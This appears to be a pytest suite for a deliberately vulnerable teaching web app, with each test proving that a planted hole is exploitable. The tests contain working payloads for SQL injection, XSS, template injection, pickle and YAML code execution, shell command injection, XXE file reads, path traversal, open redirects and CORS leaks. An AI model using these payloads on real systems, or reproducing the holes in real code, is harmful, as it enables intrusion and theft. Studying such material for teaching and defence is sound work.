"""The leaky app is a witness: each hole that it shows is one that can be used."""

import base64
import importlib
import io
import pickle
import sys
import tarfile
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2] / "examples" / "leaky"


@pytest.fixture
def app(tmp_path, monkeypatch):
    monkeypatch.syspath_prepend(str(ROOT))
    settings = {"TESTING": True, "PROPAGATE_EXCEPTIONS": False}
    app = importlib.import_module("leaky").create_app(settings, str(tmp_path / "club"))
    app.static_folder = str(tmp_path / "static")
    return app


@pytest.fixture
def client(app):
    return app.test_client()


@pytest.fixture
def ada(app):
    client = app.test_client()
    log_in(client, "ada", "oars")
    return client


def fetched(client, address):
    # A file that is sent stays open until the answer is closed.
    with client.get(address) as answer:
        return answer.text


def log_in(client, name, password, next=""):
    form = {"name": name, "password": password, "next": next}
    return client.post("/login", data=form)


def test_a_quote_in_the_name_logs_anyone_in(client):
    log_in(client, "' OR 1=1 -- ", "")

    with client.session_transaction() as session:
        assert session["member"] == "ada"


def test_a_wrong_password_alone_does_not(client):
    log_in(client, "ada", "sails")

    with client.session_transaction() as session:
        assert "member" not in session


def test_the_search_reads_another_table(client):
    stolen = "%' UNION SELECT id, name, password, role FROM member --"
    page = client.get("/search", query_string={"q": stolen}).text
    assert "ada" in page
    assert "office" in page


def test_a_search_comes_back_as_markup(client):
    page = client.get("/search", query_string={"q": "<script>steal()</script>"}).text
    assert "<script>steal()</script>" in page


def test_a_notice_runs_script_in_every_visitor(ada, client):
    ada.post("/notice", data={"title": "A", "body": "<script>steal()</script>"})
    assert "<script>steal()</script>" in client.get("/").text


def test_a_template_that_is_not_html_escapes_nothing(client):
    assert "<h1><img src=x></h1>" in client.get("/card/<img src=x>").text


def test_a_greeting_is_a_template(client):
    page = client.get("/greet", query_string={"name": "{{ config.SECRET_KEY }}"}).text
    assert "row-row-row-your-boat-1987" in page


def test_a_cookie_runs_code(client):
    class Taste:
        def __reduce__(self):
            return (str.upper, ("title desc -- was run",))

    client.set_cookie("taste", base64.b64encode(pickle.dumps(Taste())).decode())
    assert "TITLE DESC -- WAS RUN" in client.get("/").text


@pytest.mark.parametrize("address", ["/shelf/file?name={}", "/shelf/read/{}"])
def test_a_document_is_any_file(client, address):
    found = fetched(client, address.format("../config.py"))
    assert "row-row-row-your-boat-1987" in found


def test_a_folder_is_any_folder(client):
    found = fetched(client, "/shelf/year/leaky/config.py?folder=../..")
    assert "row-row-row-your-boat-1987" in found


def test_an_upload_is_served_as_a_page(ada, client):
    page = (io.BytesIO(b"<script>steal()</script>"), "regatta.html")
    ada.post("/shelf/upload", data={"file": page})

    with client.get("/static/uploads/regatta.html") as answer:
        assert answer.mimetype == "text/html"
        assert answer.text == "<script>steal()</script>"


def test_an_upload_chooses_its_folder(app, ada):
    ada.post("/shelf/upload", data={"file": (io.BytesIO(b"here"), "../escaped.txt")})
    assert (Path(app.static_folder) / "escaped.txt").read_text() == "here"


@pytest.mark.skipif(
    sys.version_info >= (3, 12), reason="Python 3.12 asks tarfile for a filter"
)
def test_an_archive_chooses_its_folder(ada, tmp_path):
    archive = io.BytesIO()

    with tarfile.open(fileobj=archive, mode="w") as tar:
        tar.addfile(tarfile.TarInfo(str(tmp_path / "unpacked.txt")), io.BytesIO())

    archive.seek(0)
    ada.post("/shelf/archive", data={"file": (archive, "a.tar")})
    assert (tmp_path / "unpacked.txt").exists()


def test_a_name_is_a_command(ada):
    assert "was run" in ada.post("/office/lookup", data={"host": "; echo was run"}).text


def test_a_host_to_ping_is_a_command(ada, tmp_path):
    ada.post("/office/ping", data={"host": f"; touch {tmp_path}/was-run"})
    assert (tmp_path / "was-run").exists()


def test_dues_are_a_program(ada):
    answer = ada.post("/office/dues", data={"sum": "__import__('os').sep"})
    assert answer.json == {"dues": "/"}


def test_crews_are_objects_of_the_visitors_choice(ada):
    answer = ada.post("/office/crews", data="!!python/object/apply:os.getcwd []")
    assert answer.json == {"crews": str(Path.cwd())}


def test_guests_name_a_file(ada, tmp_path):
    (tmp_path / "secret.txt").write_text("the key is under the mat")
    entity = f"<!DOCTYPE g [<!ENTITY f SYSTEM 'file://{tmp_path}/secret.txt'>]>"
    answer = ada.post("/office/guests", data=f"{entity}<g>&f;</g>")
    assert answer.json == {"names": "the key is under the mat"}


def test_the_office_asks_who_it_is(client):
    assert client.get("/office/").location == "/login?next=/office/"


def test_one_view_of_the_office_asks_nobody(client):
    assert client.post("/office/members/ben/expel").json == {"expelled": "ben"}


def test_a_guard_above_the_route_guards_nothing(client):
    assert {"name": "ada", "role": "office"} in client.get("/office/ledger").json


def test_a_link_deletes_for_a_stranger(client):
    client.get("/notice/1/delete")
    assert "Regatta" not in client.get("/").text


@pytest.mark.parametrize("target", ["////evil.example", "http:///evil.example"])
def test_the_check_of_the_next_page_lets_another_site_through(client, target):
    # A browser takes both for the site of that name (WHATWG URL, 4.4).
    location = log_in(client, "ada", "oars", next=target).location
    assert location in ("//evil.example", "http:///evil.example")


def test_the_check_of_the_next_page_stops_the_plain_case(client):
    assert log_in(client, "ada", "oars", next="https://evil.example/").location == "/"


def test_any_page_is_left_for_any_other(client):
    assert client.get("/leave?to=https://evil.example/").location == (
        "https://evil.example/"
    )


def test_every_site_reads_the_members(client):
    answer = client.get("/api/members", headers={"Origin": "https://evil.example"})
    assert answer.headers["Access-Control-Allow-Origin"] == "https://evil.example"
    assert answer.headers["Access-Control-Allow-Credentials"] == "true"
    assert "password" in answer.json[0]


def test_a_visitor_chooses_the_role(client):
    form = {"name": "eve", "password": "x", "role": "office"}
    client.post("/join", data=form)
    assert {"name": "eve", "role": "office"} in client.get("/office/ledger").json


def test_an_error_shows_the_inside(client):
    page = client.get("/search", query_string={"q": "'"})
    assert page.status_code == 500
    assert "Traceback" in page.text


def test_a_cookie_says_that_scripts_may_read_it(client):
    cookies = log_in(client, "ada", "oars").headers.getlist("Set-Cookie")
    assert any(c.startswith("session=") and "HttpOnly" not in c for c in cookies)
